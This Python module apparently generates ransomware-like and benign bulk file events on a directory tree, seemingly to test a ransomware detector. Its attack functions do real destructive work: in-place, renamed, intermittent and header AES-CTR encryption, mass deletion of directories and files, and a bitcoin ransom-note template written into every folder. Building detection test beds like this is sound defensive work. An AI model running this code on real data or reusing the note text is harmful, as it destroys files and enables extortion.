"""Attacks (real AES-256-CTR from openssl) and benign bulk events, applied to a tree.

Every function takes (root, rng, clock, **params) and returns an info dict: how many files it
touched and what exactly it did, so the report and the self-test can check it.
"""

import gzip
import os
import shutil
import sqlite3
import subprocess
import zlib

from common import ext_of, is_compressed, list_dirs, list_files, new_keystream

FRACTIONS = (0.02, 0.05, 0.25, 1.0)
KiB = 1024


def seed_choice(rng, options):
    return options[rng.randrange(len(options))]


def locked_ext(seed_rng):
    e = seed_choice(seed_rng, [".locked", ".enc", ".crypt", None])
    if e is None:
        e = "." + "".join(chr(97 + seed_rng.randrange(26)) for _ in range(5))
    return e


NOTE_NAMES = ["HOW_TO_DECRYPT.txt", "README_RESTORE_FILES.txt", "!!!_READ_ME_!!!.txt",
              "RECOVER-YOUR-DATA.txt", "DECRYPT-FILES.html"]


def note_text(rng, name):
    ident = "".join("0123456789ABCDEF"[rng.randrange(16)] for _ in range(32))
    wallet = "bc1q" + "".join("023456789acdefghjklmnpqrstuvwxyz"[rng.randrange(32)] for _ in range(38))
    body = (
        "ALL YOUR FILES HAVE BEEN ENCRYPTED\n\n"
        "Your documents, photos, databases and other important files have been encrypted with a\n"
        "strong algorithm (AES-256 + RSA-4096). Nobody can recover them without our private key.\n\n"
        f"Your personal ID: {ident}\n\n"
        "To get the decryption tool:\n"
        f"  1. Send 0.05 BTC to {wallet}\n"
        f"  2. Email your ID to recovery-{ident[:8].lower()}@onionmail.example\n"
        "  3. You will receive the tool and your key within 24 hours.\n\n"
        "Do not rename the encrypted files. Do not try to decrypt them with third-party software,\n"
        "it may cause permanent data loss. If you do not pay within 72 hours the price doubles.\n")
    if name.endswith(".html"):
        body = "<html><body><pre>\n" + body + "</pre></body></html>\n"
    return body


# ---------------------------------------------------------------- choosing targets


def pick_targets(root, rng, fraction, eligible=None, mode="walk"):
    """`fraction` of the files (at least one): a contiguous run in directory order from a random
    start (as ransomware walks a tree), or a scattered sample."""
    files = eligible if eligible is not None else list_files(root)
    if not files:
        return []
    n = max(1, round(fraction * len(files)))
    if n >= len(files):
        return list(files)
    if mode == "scatter":
        return sorted(rng.sample(files, n))
    s = rng.randrange(len(files))
    return (files[s:] + files[:s])[:n]


def intermittent_ranges(size, pattern):
    if pattern == "16k-of-64k":
        return [(o, min(16 * KiB, size - o)) for o in range(0, size, 64 * KiB)]
    if pattern == "4k-every-other":
        return [(o, min(4 * KiB, size - o)) for o in range(0, size, 8 * KiB)]
    raise ValueError(pattern)


def head_ranges(size):
    n = 4 * KiB if size >= 8 * KiB else 1 * KiB
    return [(0, min(n, size))]


# ---------------------------------------------------------------- encryption primitives


def enc_whole_inplace(path, ks, footer=0):
    with open(path, "r+b") as f:
        data = f.read()
        f.seek(0)
        f.write(ks.encrypt(data))
        if footer:
            f.write(ks.take(footer))  # an "encrypted key" blob, as many families append
    return len(data)


def enc_renamed(path, ks, ext, footer=0):
    with open(path, "rb") as f:
        data = f.read()
    with open(path + ext, "wb") as f:
        f.write(ks.encrypt(data))
        if footer:
            f.write(ks.take(footer))
    os.remove(path)
    return len(data)


def enc_ranges(path, ks, ranges):
    done = 0
    with open(path, "r+b") as f:
        for off, n in ranges:
            if n <= 0:
                continue
            f.seek(off)
            b = f.read(n)
            f.seek(off)
            f.write(ks.encrypt(b))
            done += len(b)
    return done


def _encrypt_set(root, rng, clock, targets, how, **kw):
    nbytes = 0
    with new_keystream(rng) as ks:
        for rel in targets:
            p = os.path.join(root, rel)
            size = os.path.getsize(p)
            if how == "inplace":
                nbytes += enc_whole_inplace(p, ks, kw.get("footer", 0))
            elif how == "renamed":
                nbytes += enc_renamed(p, ks, kw["ext"], kw.get("footer", 0))
                p = p + kw["ext"]
            elif how == "intermittent":
                nbytes += enc_ranges(p, ks, intermittent_ranges(size, kw["pattern"]))
            elif how == "head":
                nbytes += enc_ranges(p, ks, head_ranges(size))
            clock.stamp(p, 0.2)
    return nbytes


# ---------------------------------------------------------------- attacks


def attack_encrypt(root, rng, clock, how, fraction, mode="walk", eligible=None, **kw):
    targets = pick_targets(root, rng, fraction, eligible, mode)
    nbytes = _encrypt_set(root, rng, clock, targets, how, **kw)
    return {"files": len(targets), "bytes_encrypted": nbytes, "mode": mode, "targets": targets,
            **{k: v for k, v in kw.items()}}


def attack_compressed(root, rng, clock, fraction, mode="scatter"):
    elig = [f for f in list_files(root) if is_compressed(f)]
    info = attack_encrypt(root, rng, clock, "inplace", fraction, mode, eligible=elig)
    info["eligible"] = len(elig)
    return info


def mass_delete(root, rng, clock, fraction):
    files = list_files(root)
    target = int(fraction * len(files))
    dirs = [d for d in list_dirs(root) if d != "."]
    rng.shuffle(dirs)
    gone = 0
    removed_dirs = []
    for d in dirs:
        p = os.path.join(root, d)
        if not os.path.isdir(p):
            continue
        n = sum(len(fs) for _, _, fs in os.walk(p))
        if n and gone + n <= target:
            shutil.rmtree(p)
            removed_dirs.append(d)
            gone += n
        if gone >= 0.9 * target:
            break
    rest = list_files(root)
    for rel in rng.sample(rest, max(0, min(len(rest), target - gone))):
        os.remove(os.path.join(root, rel))
        gone += 1
    return {"files": gone, "of": len(files), "fraction_deleted": round(gone / max(1, len(files)), 3),
            "dirs_removed": len(removed_dirs)}


def drop_notes(root, rng, clock, name, text):
    n = 0
    for d in list_dirs(root):
        p = os.path.join(root, d, name)
        with open(p, "w") as f:
            f.write(text)
        clock.stamp(p, 0.05)
        n += 1
    return {"notes": n, "note": name}


# ---------------------------------------------------------------- benign events


def gzip_logs(root, rng, clock):
    logs = [f for f in list_files(root) if f.endswith(".log")]
    for i in range(0, len(logs), 50):
        subprocess.run(["gzip", "-6", "-f", "--"] + [os.path.join(root, f) for f in logs[i:i + 50]], check=True)
    return {"files": len(logs)}


def _install_sources(rng):
    """(name, [(src, rel)]) of a real software tree with 200+ files."""
    which = seed_choice(rng, ["python", "libs"])
    if which == "python" and os.path.isdir("/usr/lib/python3/dist-packages"):
        top = "/usr/lib/python3/dist-packages"
        entries = sorted(os.listdir(top))
        s = rng.randrange(len(entries))
        out, size = [], 0
        for e in entries[s:] + entries[:s]:
            p = os.path.join(top, e)
            paths = []
            if os.path.isdir(p) and not os.path.islink(p):
                for d, ds, fs in os.walk(p):
                    ds.sort()
                    paths += [os.path.join(d, f) for f in sorted(fs)]
            else:
                paths = [p]
            for q in paths:
                if os.path.isfile(q) and not os.path.islink(q):
                    out.append((q, os.path.relpath(q, top)))
                    size += os.path.getsize(q)
            if len(out) >= 250 and (size > 5e6 or len(out) > 1200):
                break
        return "python-site-packages", [(q, ".local/lib/python3.11/site-packages/" + r) for q, r in out]
    top = "/usr/lib/x86_64-linux-gnu"
    libs = []
    for d, ds, fs in os.walk(top):
        ds.sort()
        for f in sorted(fs):
            q = os.path.join(d, f)
            if os.path.isfile(q) and not os.path.islink(q) and os.path.getsize(q) < (8 << 20):
                libs.append(q)
    s = rng.randrange(max(1, len(libs) - 260))
    out, size = [], 0
    for q in libs[s:]:
        out.append(q)
        size += os.path.getsize(q)
        if len(out) >= 260 or (len(out) >= 200 and size > 40e6):
            break
    return "vendor-libs", [(q, "opt/vendor/lib/" + os.path.relpath(q, top)) for q in out]


def install_software(root, rng, clock):
    name, pairs = _install_sources(rng)
    size = 0
    for src, rel in pairs:
        dst = os.path.join(root, rel)
        os.makedirs(os.path.dirname(dst), exist_ok=True)
        shutil.copyfile(src, dst)
        os.chmod(dst, os.stat(src).st_mode & 0o777)
        clock.stamp(dst, 0.01)
        size += os.path.getsize(dst)
    return {"files": len(pairs), "bytes": size, "what": name}


def _subtrees(root, lo, hi):
    """Directories holding between lo and hi of all files."""
    total = len(list_files(root))
    out = []
    for d in list_dirs(root):
        if d == ".":
            continue
        n = sum(len(fs) for _, _, fs in os.walk(os.path.join(root, d)))
        if lo * total <= n <= hi * total:
            out.append((d, n))
    return out, total


def move_tree(root, rng, clock):
    cands, total = _subtrees(root, 0.10, 0.5)
    if not cands:
        cands, total = _subtrees(root, 0.02, 0.9)
    d, n = seed_choice(rng, sorted(cands))
    if rng.random() < 0.5:
        new = os.path.join("archive", "moved-2026", os.path.basename(d))
    else:
        new = d + "-old"
    os.makedirs(os.path.dirname(os.path.join(root, new)), exist_ok=True)
    os.rename(os.path.join(root, d), os.path.join(root, new))
    return {"files": n, "of": total, "from": d, "to": new}


def is_sqlite(path):
    with open(path, "rb") as f:
        return f.read(16) == b"SQLite format 3\0"


def rebuild_db(root, rng, clock):
    dbs = [f for f in list_files(root) if ext_of(f) in (".sqlite", ".db") and is_sqlite(os.path.join(root, f))]
    how = seed_choice(rng, ["vacuum-into", "dump-restore"])
    for rel in dbs:
        p = os.path.join(root, rel)
        tmp = p + ".rebuild"
        if os.path.exists(tmp):
            os.remove(tmp)
        con = sqlite3.connect(p)
        try:
            if how == "vacuum-into":
                con.execute("VACUUM INTO ?", (tmp,))
            else:
                new = sqlite3.connect(tmp)
                try:
                    new.executescript("\n".join(con.iterdump()))
                    new.commit()
                finally:
                    new.close()
        finally:
            con.close()
        os.replace(tmp, p)
        clock.stamp(p, 5.0)
    return {"files": len(dbs), "how": how}


def make_archive(root, rng, clock):
    cands, total = _subtrees(root, 0.05, 0.25)
    if len(cands) < 2:
        cands, total = _subtrees(root, 0.01, 0.5)
    cands.sort()
    a, na = seed_choice(rng, cands)
    b, nb = seed_choice(rng, cands)
    out = os.path.join(root, "backups")
    os.makedirs(out, exist_ok=True)
    tname = os.path.join(out, os.path.basename(a) + "-2026.tar.gz")
    zname = os.path.join(out, os.path.basename(b) + "-2026.zip")
    subprocess.run(["tar", "czf", tname, "-C", os.path.join(root, os.path.dirname(a)) or root,
                    os.path.basename(a)], check=True)
    subprocess.run(["zip", "-qr", zname, os.path.basename(b)], check=True,
                   cwd=os.path.join(root, os.path.dirname(b)) or root)
    for p in (tname, zname):
        clock.stamp(p, 30.0)
    return {"files": 2, "tar_of": na, "zip_of": nb, "bytes": os.path.getsize(tname) + os.path.getsize(zname),
            "tar": a, "zip": b}


PNG_SIG = b"\x89PNG\r\n\x1a\n"


def _png_chunks(data):
    pos, out = 8, []
    while pos + 8 <= len(data):
        n = int.from_bytes(data[pos:pos + 4], "big")
        typ = data[pos + 4:pos + 8]
        out.append((typ, data[pos + 8:pos + 8 + n]))
        pos += 12 + n
        if typ == b"IEND":
            break
    return out


def png_raw(data):
    return zlib.decompress(b"".join(b for t, b in _png_chunks(data) if t == b"IDAT"))


def png_recompress(data, levels=(9, 1, 6, 3, 0)):
    """The same PNG with its image data deflated at another level (CRCs fixed), or None."""
    if data[:8] != PNG_SIG:
        return None
    chunks = _png_chunks(data)
    idat = b"".join(b for t, b in chunks if t == b"IDAT")
    if not idat:
        return None
    try:
        raw = zlib.decompress(idat)
    except zlib.error:
        return None
    for lv in levels:
        new = zlib.compress(raw, lv)
        if new == idat:
            continue
        out, done = [PNG_SIG], False
        for t, b in chunks:
            if t == b"IDAT":
                if done:
                    continue
                b, done = new, True
            out.append(len(b).to_bytes(4, "big") + t + b + zlib.crc32(t + b).to_bytes(4, "big"))
        return b"".join(out)
    return None


def regzip(data, levels=(9, 1, 6)):
    try:
        raw = gzip.decompress(data)
    except (OSError, EOFError, zlib.error):
        return None
    mtime = int.from_bytes(data[4:8], "little")
    for lv in levels:
        new = gzip.compress(raw, compresslevel=lv, mtime=mtime)
        if new != data:
            return new
    return None


def reencode_media(root, rng, clock):
    n_png = n_gz = 0
    for rel in list_files(root):
        e = ext_of(rel)
        if e not in (".png", ".gz"):
            continue
        p = os.path.join(root, rel)
        with open(p, "rb") as f:
            data = f.read()
        new = png_recompress(data) if e == ".png" else regzip(data)
        if new is None:
            continue
        with open(p, "wb") as f:
            f.write(new)
        clock.stamp(p, 0.5)
        if e == ".png":
            n_png += 1
        else:
            n_gz += 1
    return {"files": n_png + n_gz, "png": n_png, "gz": n_gz}

